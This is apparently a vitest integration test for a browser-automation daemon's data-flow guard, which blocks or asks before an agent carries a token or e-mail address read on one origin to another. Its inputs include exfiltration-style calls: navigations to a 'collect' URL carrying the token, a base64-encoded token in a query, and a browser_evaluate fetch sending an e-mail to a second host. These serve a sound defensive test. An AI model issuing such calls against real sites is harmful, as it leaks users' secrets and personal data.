import { randomBytes } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { ENGINES } from '../../helpers/daemon'
import { FakeExtension, READY, type WireMessage } from '../../helpers/fakeExtension'
import { connectMcp, rawTextOf, type McpConnection } from '../../helpers/mcpClient'
import { connectMcpV2 } from '../../helpers/mcpClientV2'
import { auditEntries, startFixture, type Fixture } from '../toolcall/fixture'

// The data-flow guard on the real call path: a daemon process, MCP clients with their own tokens,
// and a scripted extension that says which origin each result was read from and which origin a
// call would act on (tool.sinkOrigin), as the real one does.
const A = 'http://127.0.0.1:4101'
const B = 'http://127.0.0.1:4102'
const TOKEN = 'tok_9fQ2xT7bLm4Rz8WkP3vNq'
const EMAIL = 'jane.doe@corp.example'
const PAGE = `- heading "Settings"\n- text: API key ${TOKEN}\n- text: owner ${EMAIL}`

const permissions = {
  browser: {
    tools: {
      browser_snapshot: 'auto',
      browser_navigate: 'auto',
      browser_type: 'auto',
      browser_evaluate: 'auto',
      browser_list_tabs: 'auto',
    },
  },
  records: { permission: 'auto' },
}
const CLIENTS = [
  'blocker',
  'asker',
  'other',
  'quiet',
  'fixed',
  'trusted',
  'lister',
  'replayer',
  'capped',
] as const
type ClientName = (typeof CLIENTS)[number]

describe.each(ENGINES)('the data-flow guard on the call path (%s engine)', (engine) => {
  let fx: Fixture
  let ext: FakeExtension
  const tokens = new Map<string, string>()
  const open: McpConnection[] = []

  const connect = async (name: ClientName) => {
    const mcp = await connectMcp({ url: fx.daemon.url, secret: tokens.get(name)! }, name)
    open.push(mcp)
    return mcp
  }
  const call = (mcp: McpConnection, name: string, args: Record<string, unknown>) =>
    mcp.client.callTool({ name, arguments: args })

  /** The client reads PAGE on A through a snapshot the extension labels with A. */
  async function readOnA(mcp: McpConnection) {
    const pending = call(mcp, 'browser_snapshot', {})
    const dispatch = await ext.nextDispatch()
    dispatch.succeedFrom([A], PAGE)
    return pending
  }

  /** What the extension answers to tab.origin: the origin the tab shows, none for a closed one. */
  let tabShows: (params: { tabId?: number }) => string | undefined = () => undefined

  /** The extension answers the next tool.sinkOrigin: the page the call would act on is `origin`. */
  async function sinkIs(origin: string): Promise<WireMessage> {
    const asked = await ext.waitFor('tool.sinkOrigin')
    ext.answer(asked, { origin })
    return asked
  }

  beforeAll(async () => {
    fx = await startFixture(engine, {
      permissions,
      flowGuard: {
        mode: 'ask',
        clients: { blocker: 'block', quiet: 'off', lister: 'block', replayer: 'block', capped: 'block' },
      },
      // A site's plugin whose tool declares an output schema: a result of it over the cap is refused whole.
      plugins: [{ name: 'records', tools: [{ name: 'fetch', outputSchema: { type: 'object' } }] }],
    })
    const now = new Date().toISOString()
    const clients = CLIENTS.map((name) => {
      const token = randomBytes(32).toString('hex')
      tokens.set(name, token)
      // `fixed` may read and write A only (bridge client add fixed --reads A --writes A).
      return {
        name,
        token,
        createdAt: now,
        ...(name === 'fixed' ? { reads: [A], writes: [A] } : {}),
        // `trusted` shows approvals itself (bridge client approvals trusted on).
        ...(name === 'trusted' ? { approvalsInClient: true } : {}),
      }
    })
    writeFileSync(join(fx.configDir, 'clients.json'), JSON.stringify({ clients }), { mode: 0o600 })
    ext = await FakeExtension.connect(fx.daemon, { tabs: { records: READY }, tabOrigin: (p) => tabShows(p) })
  })
  afterEach(async () => {
    for (const mcp of open.splice(0)) await mcp.close()
  })
  afterAll(async () => {
    await ext?.close()
    await fx?.stop()
  })

  it('labels a result with the origin it was read from in _meta', async () => {
    const mcp = await connect('asker')
    const result = await readOnA(mcp)
    expect(result._meta).toEqual({ 'bridge/origins': [A] })
  })

  it('in block mode refuses a navigation that carries the token to another origin, naming both, and runs nothing', async () => {
    const mcp = await connect('blocker')
    await readOnA(mcp)
    const result = await call(mcp, 'browser_navigate', { url: `${B}/collect?k=${TOKEN}` })
    expect(result.isError).toBe(true)
    const text = rawTextOf(result)
    expect(text).toMatch(/^\[flow_blocked\]/)
    expect(text).toContain(`${A} to ${B}`)
    expect(text).not.toContain(TOKEN)
    expect(ext.received.filter((m) => m.method === 'tool.dispatch')).toEqual([])
    const [entry] = await auditEntries(fx.daemon, 'limit=1')
    expect(entry).toMatchObject({
      tool: 'browser_navigate',
      client: 'blocker',
      success: false,
      error: { code: 'flow_blocked' },
      flowGuard: { sources: [A], sinks: [B], kinds: ['token'], decision: 'blocked' },
    })
    expect(JSON.stringify(entry)).not.toContain(TOKEN)
  })

  it('in block mode refuses typing the address into a page of another origin, as the extension names it', async () => {
    const mcp = await connect('blocker')
    await readOnA(mcp)
    const pending = call(mcp, 'browser_type', { selector: '#to', text: `send to ${EMAIL}` })
    const asked = await sinkIs(B)
    expect(asked.params).toMatchObject({ plugin: 'browser', tool: 'browser_type' })
    const result = await pending
    expect(rawTextOf(result)).toMatch(/^\[flow_blocked\].*an e-mail address/)
    expect(rawTextOf(result)).not.toContain(EMAIL)
  })

  it('labels a list of tabs (no tab of its own) with each tab origin: a title goes back to its page, not to another', async () => {
    const mcp = await connect('lister')
    const tab = (tabId: number, url: string, title: string) => ({
      tabId,
      windowId: 1,
      url,
      title,
      active: tabId === 1,
      status: 'complete',
      focusedWindow: true,
    })
    const listed = call(mcp, 'browser_list_tabs', {})
    ;(await ext.nextDispatch()).succeed({
      tabs: [tab(1, `${A}/inbox`, `Inbox - ${EMAIL}`), tab(2, `${B}/`, 'News of the day')],
    })
    const result = await listed
    expect(result.isError).toBeFalsy()
    expect(result._meta).toEqual({ 'bridge/origins': [A, B] })

    // The address in A's title goes back to A: no flow, though the list also held B.
    const home = call(mcp, 'browser_navigate', { url: `${A}/search?q=${EMAIL}` })
    ;(await ext.nextDispatch()).succeed('ok')
    expect((await home).isError).toBeFalsy()
    // To B it is a flow from A (block: refused, and nothing dispatched).
    const before = ext.received.filter((m) => m.method === 'tool.dispatch').length
    const away = await call(mcp, 'browser_navigate', { url: `${B}/?to=${EMAIL}` })
    expect(rawTextOf(away)).toMatch(/^\[flow_blocked\]/)
    expect(rawTextOf(away)).toContain(`${A} to ${B}`)
    expect(ext.received.filter((m) => m.method === 'tool.dispatch').length).toBe(before)
  })

  it('guards a replayed workflow step by step: a value read on A may be typed on A, not on B', async () => {
    const now = new Date().toISOString()
    const workflow = (name: string, origin: string) => ({
      version: 1,
      name,
      description: `Posts a note on ${origin}`,
      permission: 'auto',
      recordedBy: 'agent',
      createdAt: now,
      updatedAt: now,
      variables: [{ name: 'note', secret: false, default: 'hello' }],
      steps: [
        { action: 'navigate', url: `${origin}/compose`, post: { url: `${origin}/compose` } },
        { action: 'type', target: { css: '#msg' }, text: '{{note}}' },
      ],
      history: [],
    })
    const folder = join(fx.configDir, 'workflows')
    mkdirSync(folder, { recursive: true, mode: 0o700 })
    for (const [name, origin] of [
      ['home', A],
      ['away', B],
    ] as const)
      writeFileSync(join(folder, `${name}.json`), JSON.stringify(workflow(name, origin)), { mode: 0o600 })
    expect((await fx.daemon.fetch('/reload', { method: 'POST' })).ok).toBe(true)

    const mcp = await connect('replayer')
    await readOnA(mcp)
    const dispatches = () => ext.received.filter((m) => m.method === 'tool.dispatch').length
    const before = dispatches()
    const away = await call(mcp, 'workflow_away', { note: `write to ${EMAIL}` })
    expect(rawTextOf(away)).toMatch(/^\[flow_blocked\].*an e-mail address/)
    expect(rawTextOf(away)).toContain(`${A} to ${B}`)
    expect(rawTextOf(away)).not.toContain(EMAIL)
    expect(dispatches()).toBe(before)
    const [entry] = await auditEntries(fx.daemon, 'limit=1')
    expect(entry).toMatchObject({
      tool: 'workflow_away',
      flowGuard: { sources: [A], sinks: [B], kinds: ['email'], decision: 'blocked' },
    })

    // The same value typed back on A by the other workflow is no flow: it is dispatched.
    const home = call(mcp, 'workflow_home', { note: `write to ${EMAIL}` })
    const dispatch = await ext.nextDispatch()
    expect(dispatch.params).toMatchObject({ tool: 'workflow_home' })
    dispatch.succeed({ ok: true, workflow: 'home', steps: [] })
    await home
  })

  it('writes a workflow that types before any navigation to the tab it runs in, as the extension names it', async () => {
    const now = new Date().toISOString()
    const folder = join(fx.configDir, 'workflows')
    mkdirSync(folder, { recursive: true, mode: 0o700 })
    writeFileSync(
      join(folder, 'jot.json'),
      JSON.stringify({
        version: 1,
        name: 'jot',
        description: 'Types a note into the page it starts on',
        permission: 'auto',
        recordedBy: 'agent',
        createdAt: now,
        updatedAt: now,
        variables: [{ name: 'note', secret: false, default: 'hello' }],
        steps: [{ action: 'type', target: { css: '#msg' }, text: '{{note}}' }],
        history: [],
      }),
      { mode: 0o600 },
    )
    expect((await fx.daemon.fetch('/reload', { method: 'POST' })).ok).toBe(true)

    const mcp = await connect('replayer')
    await readOnA(mcp)
    const dispatches = () => ext.received.filter((m) => m.method === 'tool.dispatch').length
    const before = dispatches()
    // The run starts in the active tab, on B: the typed address goes to B, and the refusal names it.
    tabShows = (p) => (p.tabId === undefined ? B : undefined)
    const asked = ext.tabOriginsAsked.length
    const sinkAsks = () => ext.received.filter((m) => m.method === 'tool.sinkOrigin').length
    const sinkAsked = sinkAsks()
    const refused = await call(mcp, 'workflow_jot', { note: `write to ${EMAIL}` })
    expect(rawTextOf(refused)).toMatch(/^\[flow_blocked\]/)
    expect(rawTextOf(refused)).toContain(`${A} to ${B}`)
    expect(rawTextOf(refused)).not.toContain('unknown page')
    expect(dispatches()).toBe(before)
    // The tab is asked for by tab.origin, with the call's dispatch id (the extension pins it for the run).
    expect(ext.tabOriginsAsked.slice(asked)).toEqual([{ dispatchId: expect.any(String) }])
    expect(sinkAsks()).toBe(sinkAsked)

    // A tab the extension does not know (closed) shows no origin: an unknown page, and the refusal says so.
    tabShows = (p) => (p.tabId === 7 ? A : undefined)
    const closed = await call(mcp, 'workflow_jot', { note: `write to ${EMAIL}`, tabId: 99 })
    expect(rawTextOf(closed)).toMatch(/^\[flow_blocked\]/)
    expect(rawTextOf(closed)).toContain(`${A} to an unknown page`)
    expect(ext.tabOriginsAsked.at(-1)).toEqual({ tabId: 99, dispatchId: expect.any(String) })
    expect(dispatches()).toBe(before)

    // Started in a tab on A (named by the plan), the same address goes back where it came from: it runs.
    const home = call(mcp, 'workflow_jot', { note: `write to ${EMAIL}`, tabId: 7 })
    const dispatch = await ext.nextDispatch()
    expect(dispatch.params).toMatchObject({ tool: 'workflow_jot' })
    dispatch.succeed({ ok: true, workflow: 'jot', steps: [] })
    expect((await home).isError).toBeFalsy()
  })

  it('gives a client with fixed read origins the list of tabs with only the tabs it may read', async () => {
    const mcp = await connect('fixed')
    const tab = (tabId: number, url: string, title: string) => ({
      tabId,
      windowId: 1,
      url,
      title,
      active: tabId === 1,
      status: 'complete',
      focusedWindow: true,
    })
    const listed = call(mcp, 'browser_list_tabs', {})
    ;(await ext.nextDispatch()).succeed({
      tabs: [
        tab(1, `${A}/inbox`, 'Inbox'),
        tab(2, `${B}/private`, `B's secret ${TOKEN}`),
        tab(3, 'about:blank', ''),
      ],
    })
    const result = await listed
    expect(result.isError).toBeFalsy()
    const text = rawTextOf(result)
    expect(text).toContain(`${A}/inbox`)
    expect(text).not.toContain(B)
    expect(text).not.toContain(TOKEN)
    expect(text).toContain('about:blank')
    expect(result._meta).toEqual({ 'bridge/origins': [A] })
  })

  it('takes no fingerprints of a result the size cap refuses: what the client never got is no flow', async () => {
    const mcp = await connect('capped')
    const secret = 'tok_Zr8Kq2Lm5Xv9Wp3Jt7Hn'
    const pending = call(mcp, 'records_fetch', {})
    // A structured result over the 100 KB cap is refused whole: the client sees none of it.
    ;(await ext.nextDispatch()).succeedFrom([A], { key: secret, filler: 'lorem ipsum '.repeat(10_000) })
    const refused = await pending
    expect(rawTextOf(refused)).toMatch(/^\[tool_error\] the structured result was \d+ bytes, over the/)
    expect(rawTextOf(refused)).not.toContain(secret)

    // The client (block mode) sends that token to B: it never read it, so nothing stops it.
    const sent = call(mcp, 'browser_navigate', { url: `${B}/?k=${secret}` })
    const first = await Promise.race([
      sent.then((result) => ({ result })),
      ext.nextDispatch().then((dispatch) => ({ dispatch })),
    ])
    expect('dispatch' in first ? undefined : rawTextOf(first.result)).toBeUndefined()
    if ('dispatch' in first) first.dispatch.succeed('ok')
    expect((await sent).isError).toBeFalsy()

    // The same result under the cap is handed out, and remembered.
    const small = call(mcp, 'records_fetch', {})
    ;(await ext.nextDispatch()).succeedFrom([A], { key: secret })
    expect((await small).isError).toBeFalsy()
    expect(rawTextOf(await call(mcp, 'browser_navigate', { url: `${B}/?k=${secret}` }))).toMatch(
      /^\[flow_blocked\]/,
    )
  })

  it('lets the same value go back to the origin it came from', async () => {
    const mcp = await connect('blocker')
    await readOnA(mcp)
    const pending = call(mcp, 'browser_navigate', { url: `${A}/settings?k=${TOKEN}` })
    const dispatch = await ext.nextDispatch()
    dispatch.succeedFrom([A], 'ok')
    expect((await pending).isError).toBeFalsy()
    const [entry] = await auditEntries(fx.daemon, 'limit=1')
    expect(entry?.flowGuard).toMatchObject({ decision: 'same_origin' })
  })

  it('lets a value the client never read go anywhere', async () => {
    const mcp = await connect('blocker')
    await readOnA(mcp)
    const pending = call(mcp, 'browser_navigate', { url: `${B}/search?q=tok_Zz8Yy7Xx6Ww5Vv4Uu3Tt2` })
    const dispatch = await ext.nextDispatch()
    dispatch.succeed('ok')
    expect((await pending).isError).toBeFalsy()
  })

  it('in ask mode puts the flow to the user: deny stops it, allow once runs it once', async () => {
    const mcp = await connect('asker')
    await readOnA(mcp)
    const url = `${B}/?d=${Buffer.from(`key=${TOKEN}`).toString('base64')}`
    const denied = call(mcp, 'browser_navigate', { url })
    const question = await ext.waitFor('confirmation.request')
    expect(question.params).toMatchObject({
      tool: 'browser_navigate',
      client: 'asker',
      flow: { flows: [{ from: A, to: B, kind: 'token', masked: 'tok_*** (25 characters)' }] },
    })
    expect(JSON.stringify(question.params!.flow)).not.toContain(TOKEN)
    ext.approve(question.params!.id as string, 'deny')
    expect(rawTextOf(await denied)).toMatch(/^\[approval_denied\]/)
    expect((await auditEntries(fx.daemon, 'limit=1'))[0]?.flowGuard).toMatchObject({ decision: 'denied' })

    const once = call(mcp, 'browser_navigate', { url })
    const again = await ext.waitFor('confirmation.request')
    ext.approve(again.params!.id as string, 'allow_once')
    const dispatch = await ext.nextDispatch()
    dispatch.succeed('ok')
    expect((await once).isError).toBeFalsy()
    expect((await auditEntries(fx.daemon, 'limit=1'))[0]?.flowGuard).toMatchObject({
      decision: 'allowed_once',
    })

    // Once was once: the next such call asks again.
    const third = call(mcp, 'browser_navigate', { url })
    const asked = await ext.waitFor('confirmation.request')
    ext.approve(asked.params!.id as string, 'deny')
    expect((await third).isError).toBe(true)
  })

  it('always allow A -> B lets later flows through for that client only, and saves it', async () => {
    const asker = await connect('asker')
    await readOnA(asker)
    const first = call(asker, 'browser_evaluate', { expression: `fetch("${B}/x?e=${EMAIL}")` })
    await sinkIs(A)
    const question = await ext.waitFor('confirmation.request')
    expect(question.params!.flow).toMatchObject({
      flows: [{ from: A, to: B, kind: 'email', masked: 'j***@corp.example' }],
    })
    ext.approve(question.params!.id as string, 'allow_always')
    ;(await ext.nextDispatch()).succeed({ value: null })
    expect((await first).isError).toBeFalsy()

    const later = call(asker, 'browser_navigate', { url: `${B}/?to=${encodeURIComponent(EMAIL)}` })
    ;(await ext.nextDispatch()).succeed('ok')
    expect((await later).isError).toBeFalsy()
    const config = JSON.parse(readFileSync(join(fx.configDir, 'config.json'), 'utf8')) as {
      flowGuard: { allowed: Record<string, string[]> }
    }
    expect(config.flowGuard.allowed).toEqual({ asker: [`${A} -> ${B}`] })

    // Another client that read the same page is still asked.
    const other = await connect('other')
    await readOnA(other)
    const pending = call(other, 'browser_navigate', { url: `${B}/?to=${encodeURIComponent(EMAIL)}` })
    const asked = await ext.waitFor('confirmation.request')
    expect(asked.params!.client).toBe('other')
    ext.approve(asked.params!.id as string, 'deny')
    expect((await pending).isError).toBe(true)
  })

  it('holds a client with fixed origins to them: a read from another is withheld, a write to another refused', async () => {
    const mcp = await connect('fixed')
    await readOnA(mcp)
    const pending = call(mcp, 'browser_snapshot', {})
    ;(await ext.nextDispatch()).succeedFrom([B], `- text: B's page ${TOKEN}`)
    const withheld = await pending
    expect(rawTextOf(withheld)).toMatch(/^\[flow_blocked\].*may read only/)
    expect(rawTextOf(withheld)).not.toContain(TOKEN)

    const write = await call(mcp, 'browser_navigate', { url: `${B}/plain` })
    expect(rawTextOf(write)).toMatch(/^\[flow_blocked\].*may write only to http:\/\/127\.0\.0\.1:4101/)
    const typed = call(mcp, 'browser_type', { selector: '#q', text: 'hello' })
    await sinkIs(A)
    ;(await ext.nextDispatch()).succeed('typed')
    expect((await typed).isError).toBeFalsy()
  })

  it('asks in the client when the client shows approvals: the flow in words, and always allow A -> B from there', async () => {
    const asked: { message: string; options: string[] }[] = []
    const v2 = await connectMcpV2(fx.daemon, tokens.get('trusted')!, {
      capabilities: { elicitation: { form: {} } },
      onElicit: (params) => {
        const schema = params.requestedSchema as { properties: { decision: { oneOf: { const: string }[] } } }
        asked.push({ message: params.message, options: schema.properties.decision.oneOf.map((o) => o.const) })
        return Promise.resolve({ action: 'accept', content: { decision: 'allow_always' } })
      },
    })
    try {
      const read = v2.client.callTool({ name: 'browser_snapshot', arguments: {} })
      ;(await ext.nextDispatch()).succeedFrom([A], PAGE)
      await read
      const pending = v2.client.callTool({ name: 'browser_navigate', arguments: { url: `${B}/?k=${TOKEN}` } })
      ;(await ext.nextDispatch()).succeed('ok')
      expect((await pending).isError).toBeFalsy()
      expect(asked).toHaveLength(1)
      expect(asked[0]?.message).toContain(`a secret-looking token tok_*** (25 characters) from ${A} to ${B}`)
      // The side panel had the same question; the client's answer decided it.
      expect((await ext.waitFor('confirmation.request')).params).toMatchObject({ client: 'trusted' })
      expect(asked[0]?.options).toEqual(['allow_once', 'allow_always', 'deny'])
      const config = JSON.parse(readFileSync(join(fx.configDir, 'config.json'), 'utf8')) as {
        flowGuard: { allowed: Record<string, string[]> }
      }
      expect(config.flowGuard.allowed.trusted).toEqual([`${A} -> ${B}`])
    } finally {
      await v2.close()
    }
  })

  it('does nothing for a client whose setting is off', async () => {
    const mcp = await connect('quiet')
    await readOnA(mcp)
    const pending = call(mcp, 'browser_navigate', { url: `${B}/collect?k=${TOKEN}` })
    ;(await ext.nextDispatch()).succeed('ok')
    expect((await pending).isError).toBeFalsy()
  })
})
